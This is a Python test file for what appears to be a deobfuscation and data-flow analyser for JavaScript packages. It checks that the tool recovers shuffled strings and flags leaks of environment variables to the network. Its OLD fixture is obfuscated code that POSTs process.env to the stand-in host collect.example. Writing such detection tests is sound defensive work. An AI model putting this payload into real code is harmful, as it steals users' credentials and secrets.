"""Strings that an obfuscator took out of the code, shuffled and encoded, are put back before it is read."""

from pathlib import Path

import pytest
from reading import package, short

SAMPLES = sorted((Path(__file__).parent / "shuffled").glob("*.js"))
"""One small file of ours (the environment and the host's name are posted), by an obfuscator's own options."""

OLD = (
    "var a=['env','collect.example','POST','https','request','end','stringify'];(function(b,c){var d=function(e)"
    "{while(--e){b['push'](b['shift']());}};d(++c);}(a,0x3));var z=function(i,k){i=i-0x0;var v=a[i];return v;};"
    "const h=require(z('0x0'));h[z('0x1')]({hostname:z('0x5'),method:z('0x6')})[z('0x2')](JSON[z('0x3')](process[z('0x4')]))"
)


@pytest.mark.parametrize(
    "code", [*(s.read_text() for s in SAMPLES), OLD], ids=[*(s.stem for s in SAMPLES), "old"]
)
def test_what_shuffled_strings_say_is_read(code: str) -> None:
    told = short(package({"index.js": code}))
    assert any(b.startswith("net.http POST https://collect.example/") for b in told), told
    assert "code.flow env:* > network" in told


def test_lines_stay_where_they_are() -> None:
    code = next(s for s in SAMPLES if s.stem == "base64").read_text()
    assert "code.flow env:* > network @ index.js:24 (import)" in package({"index.js": code})


def test_an_array_that_is_never_in_order_is_left_as_it_is() -> None:
    code = (
        next(s for s in SAMPLES if s.stem == "plain")
        .read_text()
        .replace("0xc5a01", "0x1")
        .replace("}(_", "}(0,_")
    )
    assert not any("net.http" in b for b in package({"index.js": code}))


def test_a_circle_of_functions_ends() -> None:
    code = (
        "function a(){const b=['x','y','z'];a=function(){return b;};return a();}"
        "function d(i){i=i-0x0;const q=a();return q[i];}function w(i){return v(i-1);}function v(i){return w(i);}"
        "require(w(1));const k=k2,k2=k;require(k(0))"
    )
    assert package({"index.js": code}) is not None
